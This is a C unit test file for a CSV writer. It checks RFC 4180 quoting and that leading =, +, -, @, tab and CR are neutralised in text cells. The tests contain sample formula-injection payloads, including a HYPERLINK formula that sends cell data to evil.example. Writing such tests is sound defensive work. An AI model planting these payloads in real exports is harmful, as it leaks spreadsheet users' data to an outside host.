/*
 * test_csv.c - the one CSV writer (core/base/csv.c): RFC 4180 quoting,
 * formula injection neutralised in text cells (each prefix OWASP lists)
 * and never in numbers, number forms; and the sweep of `waymark plan
 * --format csv` (wm_plan_csv on a plan built by hand): every text column
 * with every dangerous prefix comes out as quoted text, every number column
 * (negative ones too) as a plain number.  portfolio.csv has its own sweep
 * in test_portfolio.c.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <math.h>
#include <stdlib.h>
#include <string.h>

#include "base/csv.h"
#include "base/util.h"
#include "plan/plan_int.h"

/* The cell wm_csv_text writes for s. */
static char *text_cell(const char *s)
{
    wm_buf b;
    wm_buf_init(&b);
    wm_csv_str(&b, s);
    wm_buf_puts(&b, "");
    return wm_buf_steal(&b);
}

static void expect_text(const char *s, const char *cell)
{
    char *got = text_cell(s);
    if (strcmp(got, cell) != 0)
        fail_msg("text \"%s\": got [%s], expected [%s]", s, got, cell);
    free(got);
}

static void rfc4180(void **state)
{
    (void)state;
    expect_text("", "");
    expect_text("plain text", "plain text");
    expect_text("Zeta \xC5\x81\xC3\xB3"
                "d\xC5\xBA",
                "Zeta \xC5\x81\xC3\xB3"
                "d\xC5\xBA");
    expect_text("a, b", "\"a, b\"");
    expect_text("say \"hi\"", "\"say \"\"hi\"\"\"");
    expect_text("two\nlines", "\"two\nlines\"");
    expect_text("cr\rin", "\"cr\rin\"");
    expect_text("\"", "\"\"\"\"");
    /* Inside a cell the prefixes are harmless. */
    expect_text("1+2=3", "1+2=3");
    expect_text("a-b @c", "a-b @c");
    /* A NULL is an empty cell. */
    wm_buf b;
    wm_buf_init(&b);
    wm_csv_text(&b, NULL, 0);
    assert_int_equal(b.len, 0);
    wm_buf_free(&b);
}

static void formulas_neutralised(void **state)
{
    (void)state;
    expect_text("=1+2", "\"'=1+2\"");
    expect_text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"");
    expect_text("+1", "\"'+1\"");
    expect_text("-2+3", "\"'-2+3\"");
    expect_text("-", "\"'-\"");
    expect_text("@SUM(A1:A9)", "\"'@SUM(A1:A9)\"");
    expect_text("\t=1", "\"'\t=1\"");
    expect_text("\r=1", "\"'\r=1\"");
    /* Text that only looks like a number is still text. */
    expect_text("-1250", "\"'-1250\"");
}

static char *number_cell(double v, int decimals)
{
    wm_buf b;
    wm_buf_init(&b);
    wm_csv_number(&b, v, decimals);
    wm_buf_puts(&b, "");
    return wm_buf_steal(&b);
}

static void expect_number(double v, int decimals, const char *cell)
{
    char *got = number_cell(v, decimals);
    if (strcmp(got, cell) != 0)
        fail_msg("number %.17g (%d decimals): got [%s], expected [%s]", v, decimals, got, cell);
    free(got);
}

static void numbers_stay_numbers(void **state)
{
    (void)state;
    expect_number(-18762.4166, 2, "-18762.42");
    expect_number(1250000, 2, "1250000");
    expect_number(0.5, 2, "0.5");
    expect_number(-0.001, 2, "0");
    expect_number(-0.0, 2, "0");
    expect_number(-2.5, -1, "-2.5");
    expect_number(0.1, -1, "0.1");
    expect_number(-0.0, -1, "0");
    expect_number(NAN, 2, "");
    expect_number(INFINITY, -1, "");
    wm_buf b;
    wm_buf_init(&b);
    wm_csv_int(&b, -42);
    wm_csv_next(&b);
    wm_csv_int(&b, 7);
    wm_csv_end(&b);
    assert_string_equal(b.data, "-42,7\r\n");
    wm_buf_free(&b);
    static const char *const cols[] = {"a", "b,c"};
    wm_buf_init(&b);
    wm_csv_header(&b, cols, 2);
    assert_string_equal(b.data, "a,\"b,c\"\r\n");
    wm_buf_free(&b);
}

/* ---- wm_plan_csv: every text column with every prefix ---- */

static const char *const PREFIXES[] = {"=", "+", "-", "@", "\t", "\r"};
static const char *const TEXT_COLS[] = {"id", "title", "tier", "status", "start", "end", "reason"};

static void plan_csv_sweep(void **state)
{
    (void)state;
    for (size_t p = 0; p < sizeof PREFIXES / sizeof *PREFIXES; p++) {
        wm_plan plan;
        memset(&plan, 0, sizeof plan);
        wm_arena *a = &plan.arena;
        wm_arena_init(a);
        plan.root = wm_vobj(a);
        wm_value *inis = wm_varr(a), *in = wm_vobj(a);
        wm_vobj_set(a, plan.root, "initiatives", inis);
        wm_varr_push(a, inis, in);
        wm_vobj_set(a, in, "rank", wm_vint(a, -1));
        for (size_t c = 0; c < sizeof TEXT_COLS / sizeof *TEXT_COLS; c++) {
            char *v = wm_xasprintf("%sHYPERLINK(\"http://x/?%s\")", PREFIXES[p], TEXT_COLS[c]);
            wm_vobj_set(a, in, TEXT_COLS[c], wm_vstr(a, v));
            free(v);
        }
        wm_vobj_set(a, in, "score", wm_vnum(a, -2.5));
        wm_vobj_set(a, in, "effort_days", wm_vnum(a, -0.25));
        wm_vobj_set(a, in, "cost", wm_vint(a, -125000));
        char *csv = wm_plan_csv(&plan, NULL, WM_CSV_INITIATIVES);
        wm_buf want;
        wm_buf_init(&want);
        wm_buf_puts(&want, "rank,id,title,tier,score,effort_days,cost,status,start,end,reason,"
                           "owner,depends_on,currency\r\n");
        wm_buf_puts(&want, "-1");
        /* Each column after rank: its number as written, or NULL for the
         * column's text, neutralised. */
        static const struct {
            const char *col, *number;
        } row[] = {{"id", NULL},      {"title", NULL},          {"tier", NULL},
                   {"score", "-2.5"}, {"effort_days", "-0.25"}, {"cost", "-125000"},
                   {"status", NULL},  {"start", NULL},          {"end", NULL},
                   {"reason", NULL}};
        for (size_t c = 0; c < sizeof row / sizeof *row; c++) {
            if (row[c].number)
                wm_buf_printf(&want, ",%s", row[c].number);
            else
                wm_buf_printf(&want, ",\"'%sHYPERLINK(\"\"http://x/?%s\"\")\"", PREFIXES[p],
                              row[c].col);
        }
        wm_buf_puts(&want, ",,,\r\n"); /* no engagement: no owner, dependencies or currency */
        if (strcmp(csv, want.data) != 0)
            fail_msg("prefix 0x%02X:\ngot:  %s\nwant: %s", (unsigned char)PREFIXES[p][0], csv,
                     want.data);
        free(csv);
        wm_buf_free(&want);
        wm_arena_free(a);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(rfc4180),
        cmocka_unit_test(formulas_neutralised),
        cmocka_unit_test(numbers_stay_numbers),
        cmocka_unit_test(plan_csv_sweep),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
